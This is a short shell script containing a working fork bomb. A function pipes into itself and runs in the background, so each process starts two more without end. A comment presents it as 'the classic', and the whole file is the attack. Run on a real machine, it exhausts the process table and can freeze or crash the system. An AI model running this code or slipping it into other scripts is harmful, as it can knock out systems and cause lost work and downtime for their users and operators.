#!/bin/sh
# The classic: every process starts two more, forever.
b() { b | b & }
b
wait
